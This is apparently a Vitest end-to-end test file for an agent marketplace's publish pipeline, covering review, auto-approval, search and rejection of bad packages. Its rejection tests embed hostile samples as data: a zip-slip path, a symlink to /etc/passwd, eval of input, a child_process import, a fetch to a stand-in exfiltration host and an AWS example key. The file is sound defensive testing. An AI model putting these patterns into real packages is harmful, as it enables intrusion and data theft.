// The publish pipeline end to end, in process: accepted packages go through review into search; bad ones leave nothing behind.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { rawTgz, MANIFEST_ENTRY } from './test-tarballs';
import { base64, buildPackage, manifestOf, type TestAgent } from '../testing/packages';
import { startMarketplaceHarness, type MarketplaceHarness } from '../testing/harness';

let h: MarketplaceHarness;
let owner: Awaited<ReturnType<MarketplaceHarness['publisher']>>;
let admin: Awaited<ReturnType<MarketplaceHarness['publisher']>>;
beforeAll(async () => {
  h = await startMarketplaceHarness({ adminScope: 'platform-ops' });
  owner = await h.publisher('pipeco');
  admin = await h.publisher('platform-ops');
});
afterAll(async () => { await h?.close(); });

const PUBLISH = `mutation($t: String!) { publishAgentVersion(input: { tarball: $t }) {
  version { id version status integrity report { steps { name status } } }
  report { steps { name status summary findings { severity code message file } metrics { name value } } }
  errors { code message field } } }`;
const REVIEW = `mutation($i: ReviewAgentVersionInput!) { reviewAgentVersion(input: $i) { version { status } errors { code message field } } }`;

const publish = (a: TestAgent | Buffer, req = owner.req) => h.exec(PUBLISH, { t: base64(Buffer.isBuffer(a) ? a : buildPackage(a)) }, req).then((r) => r.data!.publishAgentVersion);
const approve = (versionId: string) => h.exec(REVIEW, { i: { versionId, decision: "APPROVE" } }, admin.req).then((r) => { if (!r.data) throw new Error(JSON.stringify(r.errors)); return r.data.reviewAgentVersion; });

async function expectRejected(a: TestAgent | Buffer, step: string, code: RegExp) {
  const before = { blobs: h.countBlobs(), versions: await h.workerDb.client.agentVersion.count() };
  const out = await publish(a);
  expect(out.version).toBeNull();
  expect(out.errors[0]).toMatchObject({ code: 'PACKAGE_REJECTED', field: 'tarball' });
  const failed = out.report.steps.find((s: { status: string }) => s.status === 'failed');
  expect(failed?.name).toBe(step);
  expect(failed.findings.map((f: { code: string }) => f.code).join(' ')).toMatch(code);
  expect({ blobs: h.countBlobs(), versions: await h.workerDb.client.agentVersion.count() }).toEqual(before);
  return out;
}

describe('accepted packages', () => {
  it('runs every step, waits for review, then appears in search with its dependency working through ctx.call', async () => {
    const dep = await publish({ name: '@pipeco/greeter' });
    expect(dep.errors).toEqual([]);
    expect(dep.version.status).toBe('PENDING_REVIEW');
    expect(dep.report.steps.map((s: { name: string }) => s.name)).toEqual(['archive', 'manifest', 'ownership', 'security', 'benchmark', 'storage', 'review']);
    const bench = dep.report.steps.find((s: { name: string }) => s.name === 'benchmark');
    expect(Object.fromEntries(bench.metrics.map((m: { name: string; value: number }) => [m.name, m.value]))).toMatchObject({ score: expect.any(Number), errorRate: 0, validOutputRate: 1 });
    expect((await h.exec(`{ searchAgents(input: { text: "greeter" }) { agents { totalCount } } }`)).data!.searchAgents.agents.totalCount).toBe(0);
    expect((await approve(dep.version.id)).version.status).toBe('PUBLISHED');

    const caller = await publish({
      name: '@pipeco/welcome', dependencies: { '@pipeco/greeter': '^1.0.0' },
      code: `export async function handle(input, ctx) { const g = await ctx.call('@pipeco/greeter', { name: input.who }); return { message: g.greeting + '!' }; }`,
      benchmark: { cases: [{ name: 'bo', input: { who: 'Bo' }, expected: { message: 'hello Bo!' } }], runs: 2, warmup: 0 },
    });
    expect(caller.errors).toEqual([]);
    // Cached (300 s) while still in review; approving must invalidate that cached page.
    const WELCOME = `{ searchAgents(input: { text: "welcome" }) { agents { totalCount } } }`;
    expect((await h.exec(WELCOME)).data!.searchAgents.agents.totalCount).toBe(0);
    await approve(caller.version.id);
    expect((await h.exec(WELCOME)).data!.searchAgents.agents.totalCount).toBe(1);

    const found = await h.exec(`{ searchAgents(input: { text: "welcome" }) { agents { edges { node { name latestVersion distTags { tag version } } } } facets { field values { value count } } } }`);
    expect(found.data!.searchAgents.agents.edges[0].node).toEqual({ name: '@pipeco/welcome', latestVersion: '1.0.0', distTags: [{ tag: 'latest', version: '1.0.0' }] });
    const page = await h.exec(`{ agent(name: "@pipeco/welcome") { readme installCommand versions { totalCount edges { node { report { steps { name } } } } }
      dependencyGraph { ok installOrder packages { name version dependencies } } } }`);
    expect(page.data!.agent.dependencyGraph).toMatchObject({ ok: true, installOrder: ['@pipeco/greeter@1.0.0', '@pipeco/welcome@1.0.0'] });
    expect(page.data!.agent.versions.edges[0].node.report.steps).toHaveLength(7);
    const run = await h.exec(`mutation { invokeAgent(name: "@pipeco/welcome", inputJson: "{\\"who\\":\\"Cy\\"}") { outputJson durationMs errors { code message } } }`);
    expect(JSON.parse(run.data!.invokeAgent.outputJson)).toEqual({ message: 'hello Cy!' });
  });

  it('refuses a second upload of the same version and a scope owned by someone else', async () => {
    await expectRejected({ name: '@pipeco/greeter' }, 'ownership', /VERSION_EXISTS/);
    await expectRejected({ name: '@someone-else/greeter' }, 'ownership', /SCOPE_NOT_OWNED/);
  });

  it('auto-approves clean packages once an admin enables the policy for the publisher', async () => {
    const UPDATE = `mutation($i: UpdatePublisherInput!) { updatePublisher(input: $i) { publisher { scope autoApprove verified } errors { code field } } }`;
    expect((await h.exec(UPDATE, { i: { scope: 'pipeco', autoApprove: true } }, owner.req)).errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
    expect((await h.exec(UPDATE, { i: { scope: 'nobody-here', verified: true } }, admin.req)).data!.updatePublisher.errors).toEqual([{ code: 'NOT_FOUND', field: 'scope' }]);
    const set = await h.exec(UPDATE, { i: { scope: 'pipeco', autoApprove: true, verified: true } }, admin.req);
    expect(set.data!.updatePublisher.publisher).toEqual({ scope: 'pipeco', autoApprove: true, verified: true });
    const out = await publish({ name: '@pipeco/auto-approved' });
    expect(out.version.status).toBe('PUBLISHED');
    const found = await h.exec(`{ searchAgents(input: { text: "auto approved", filters: { verified: true } }) { agents { edges { node { name verified } } } } }`);
    expect(found.data!.searchAgents.agents.edges[0].node).toEqual({ name: '@pipeco/auto-approved', verified: true });
    await h.exec(UPDATE, { i: { scope: 'pipeco', autoApprove: false } }, admin.req);
  });

  it('lets only platform admins review', async () => {
    const out = await publish({ name: '@pipeco/pending-one' });
    const denied = await h.exec(REVIEW, { i: { versionId: out.version.id, decision: 'APPROVE' } }, owner.req);
    expect(denied.errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
    const noReason = await h.exec(REVIEW, { i: { versionId: out.version.id, decision: 'REJECT' } }, admin.req);
    expect(noReason.data!.reviewAgentVersion.errors[0].field).toBe('reason');
  });
});

describe('rejected packages leave nothing behind', () => {
  it('malformed archive', async () => { await expectRejected(Buffer.from('definitely not a tarball'), 'archive', /.+/); });
  it('zip-slip path', async () => { await expectRejected(rawTgz([MANIFEST_ENTRY, { path: 'package/../../evil.js', body: 'x' }]), 'archive', /PATH|TRAVERSAL|SLIP/i); });
  it('symlink', async () => { await expectRejected(rawTgz([MANIFEST_ENTRY, { path: 'package/link.js', type: '2', linkpath: '/etc/passwd' }]), 'archive', /LINK/i); });
  it('oversize', async () => {
    const out = await h.exec(PUBLISH, { t: 'A'.repeat(14_500_000) }, owner.req);
    expect(out.data!.publishAgentVersion.errors[0]).toMatchObject({ code: 'BAD_USER_INPUT', field: 'tarball' });
  });
  it('manifest errors, each with its path', async () => {
    const out = await expectRejected({ name: '@pipeco/bad-manifest', manifestOverrides: { version: 'one', license: 'NOT-A-LICENSE' } }, 'manifest', /MANIFEST_INVALID/);
    const messages = out.report.steps[1].findings.map((f: { message: string }) => f.message).join('\n');
    expect(messages).toMatch(/^version:/m);
    expect(messages).toMatch(/^license:/m);
  });
  it('infinite loop', async () => { await expectRejected({ name: '@pipeco/spinner', code: 'export async function handle() { while (true) {} }', constraints: { timeoutMs: 200, memoryMb: 16 } }, 'benchmark', /BENCHMARK/); });
  it('memory bomb', async () => {
    await expectRejected({ name: '@pipeco/bomb', code: 'export async function handle() { const a = []; while (true) a.push("x".repeat(1e5) + a.length); }', constraints: { timeoutMs: 5000, memoryMb: 16 } }, 'benchmark', /BENCHMARK/);
  });
  it('eval', async () => { await expectRejected({ name: '@pipeco/evil-eval', code: 'export async function handle(i) { return eval(i.code); }' }, 'security', /EVAL/i); });
  it('undeclared child_process', async () => { await expectRejected({ name: '@pipeco/shell', code: "import cp from 'child_process';\nexport async function handle() { return {}; }" }, 'security', /BUILTIN|CHILD_PROCESS|NODE/i); });
  it('undeclared network use', async () => { await expectRejected({ name: '@pipeco/phone-home', code: "export async function handle() { await fetch('https://exfil.example.com/x'); return {}; }" }, 'security', /NETWORK/i); });
  it('leaked secret', async () => {
    const key = ['AKIA', 'IOSFODNN7', 'EXAMPLE'].join('');
    await expectRejected({ name: '@pipeco/leaky', code: `const AWS = '${key}';\nexport async function handle() { return { ok: AWS.length > 0 }; }` }, 'security', /SECRET|AWS/i);
  });
  it('keeps the manifest shape honest', () => { expect(manifestOf({ name: '@x/y' })).toHaveProperty('entry', 'index.js'); });
});
